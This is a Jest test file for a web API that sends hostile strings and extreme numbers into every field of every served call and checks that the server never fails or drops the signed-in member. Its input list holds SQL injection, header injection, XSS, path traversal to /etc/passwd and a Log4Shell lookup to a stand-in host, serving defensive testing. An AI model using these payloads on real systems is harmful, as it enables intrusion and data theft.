import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
import { newRandom, send, type Identity } from '../../test/platform/protocol/client.ts';
import { signIn } from '../../test/platform/protocol/sign-in.ts';
import { testApp, type TestApp } from '../../test/platform/protocol/test-app.ts';
import { testDatabase } from '../../test/database/database.ts';
import type { ServedCall } from '../platform/calls/serve.ts';
import { servedCalls } from './index.ts';
import { payloadsFor, placesOf, withValue, type Payload } from '../../test/domains/payloads.ts';

jest.setTimeout(60_000);

/** Text that members and attackers can send; the last ones fit the patterns of ids, dates and amounts. */
const TEXTS = [
  '\0',
  '\u202Egnp.exe\u200B\u2066\uFEFF',
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467} \u{20BB7}\u91CE',
  "'; drop table member; --\r\nSet-Cookie: token=1 {{7*7}}${7*7}",
  '"><img src=x onerror=alert(1)><script>alert(1)</script>../../../etc/passwd%00${jndi:ldap://evil.example}',
  '__proto__',
  'x'.repeat(5000),
  '0',
  '9999-99-99',
  '0000-00-00',
  '9999999999999999',
  '+9999',
];
const NUMBERS = [Number.MAX_SAFE_INTEGER, 2 ** 31, -1];

let database: Awaited<ReturnType<typeof testDatabase>>;
let app: TestApp;
let member: Identity;
let tried = 0;

beforeAll(async () => {
  database = await testDatabase();
  app = await testApp({ db: database.db });
  member = await signIn(app, '66000109');
});
afterAll(async () => {
  process.stdout.write(`hostile texts and numbers: ${tried} tried in ${servedCalls.length} calls\n`);
  await app.fastify.close();
  await database.drop();
});

interface Attack {
  readonly call: ServedCall;
  readonly params: Readonly<Record<string, string>>;
  readonly payload: Payload;
  readonly where: string;
}

/**
 * Puts the text into every field of a call in turn, with valid values elsewhere; values that the schema refuses are
 * skipped.
 */
function attacksOn(call: ServedCall, value: string | number): Attack[] {
  const { path, row } = call;
  const names = [...path.matchAll(/\{(\w+)\}/g)].flatMap(([, name]) => name ?? []);
  const own = Object.fromEntries(names.map((name) => [name, member.userId]));
  // an address cannot carry a lone surrogate
  const inPath = encodeURIComponent(String(value).toWellFormed());
  const isTaken = (payload: Payload) => (row.body ?? row.query)?.safeParse(payload).success !== false;
  return payloadsFor(row).flatMap((payload) => [
    ...names.map((name) => ({ call, params: { ...own, [name]: inPath }, payload, where: `{${name}}` })),
    ...placesOf(typeof value as 'string' | 'number', payload)
      .map((where) => ({ call, params: own, payload: withValue(payload, where, value), where }))
      .filter((attack) => isTaken(attack.payload)),
  ]);
}

async function failureOf({ call, params, payload, where }: Attack): Promise<string[]> {
  const body = call.row.once === true ? { idempotencyKey: newRandom(), ...payload } : payload;
  const { status, envelope } = await send(app, call.key, { as: member, params, payload: body });
  tried += 1;
  const isClear = Number.isInteger(envelope.code) && typeof envelope.message === 'string';
  return status < 500 && isClear ? [] : [`${status} ${call.key} ${where}`];
}

async function failuresWith(value: string | number): Promise<string[]> {
  const attacks = servedCalls.flatMap((call) => attacksOn(call, value));
  expect(attacks.length).toBeGreaterThan(5);
  return (await Promise.all(attacks.map(failureOf))).flat();
}

describe('in no field of any call makes the server fail:', () => {
  it.each(TEXTS.map((text) => [JSON.stringify(text).slice(0, 30), text]))('%s', async (_shown, text) =>
    expect(await failuresWith(text)).toEqual([]),
  );

  it.each(NUMBERS)('%d', async (number) => expect(await failuresWith(number)).toEqual([]));

  it('a lone surrogate, which JSON can carry', async () => {
    const calls = servedCalls.filter(({ method }) => method !== 'GET');
    const attacks = calls.flatMap((call) =>
      attacksOn(call, '\uD800').filter(({ where }) => !where.includes('{')),
    );
    expect((await Promise.all(attacks.map(failureOf))).flat()).toEqual([]);
  });
});

it('leaves the member signed in and as they were', async () => {
  expect((await send(app, 'GET /user/info', { as: member })).envelope).toMatchObject({
    code: 0,
    data: { userId: member.userId },
  });
});
